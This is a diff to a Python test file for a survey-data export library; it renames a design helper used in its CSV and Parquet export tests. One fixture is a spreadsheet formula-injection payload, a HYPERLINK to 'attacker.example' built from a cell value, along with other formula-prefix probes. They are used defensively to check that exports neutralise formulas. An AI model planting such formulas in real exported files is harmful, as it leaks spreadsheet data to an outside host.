@@ -48,7 +48,7 @@ LINES = [
 Case = tuple[Design, list[list[RecordRow]]]
 
 
-def of_choices(*questions: dict[str, Any]) -> Design:
+def plain_design(*questions: dict[str, Any]) -> Design:
     return asked.make_design({"kind": "plain", "questions": list(questions)})
 
 
@@ -88,13 +88,13 @@ def test_csv_holds_names_empty_cells_dashes_and_question_marks() -> None:
     assert (header, sorted(lines)) == (LINES[0], sorted(LINES[1:]))
     assert (found.n, found.count_disguised, found.count_open) == (4, 3, 1)
     # A question with as many choices as a byte has values can be withheld.
-    wide = of_choices({"name": "q", "choices": [str(code) for code in range(254)]})
+    wide = plain_design({"name": "q", "choices": [str(code) for code in range(254)]})
     found = asked.used_rows(wide, [RecordRow(0, (253,)), RecordRow(1, (253,))])
     assert sorted(csv_of(found).splitlines()[1:]) == ["disguised,253", "open,?"]
 
 
 FORMULA = '=HYPERLINK("http://attacker.example/"&A1,"see")'
-TEMPTING = of_choices({"name": "+1+2", "choices": [FORMULA, "'" + FORMULA, "-5", "@SUM(A1)"]})
+TEMPTING = plain_design({"name": "+1+2", "choices": [FORMULA, "'" + FORMULA, "-5", "@SUM(A1)"]})
 
 
 def test_no_name_is_exported_as_a_formula_and_each_is_read_back() -> None:
@@ -180,7 +180,7 @@ def test_parquet_column_is_categorical_with_labels() -> None:
     assert table.schema.metadata[b"candor:fingerprint"].decode() == ASKS.fingerprint
     # That of a scale is ordered as its choices.
     often = {"name": "often", "form": "scale", "choices": ["never", "rarely", "often"]}
-    of = of_choices({"name": "age", "choices": ["18-39", "40+"]}, often)
+    of = plain_design({"name": "age", "choices": ["18-39", "40+"]}, often)
     table = table_of(asked.used_rows(of, [RecordRow(1, (0, code)) for code in (2, 0, 1)]))
     ordered = {name: table.schema.field(name).type.ordered for name in table.column_names}
     assert ordered == {"group": False, "age": False, "often": True}
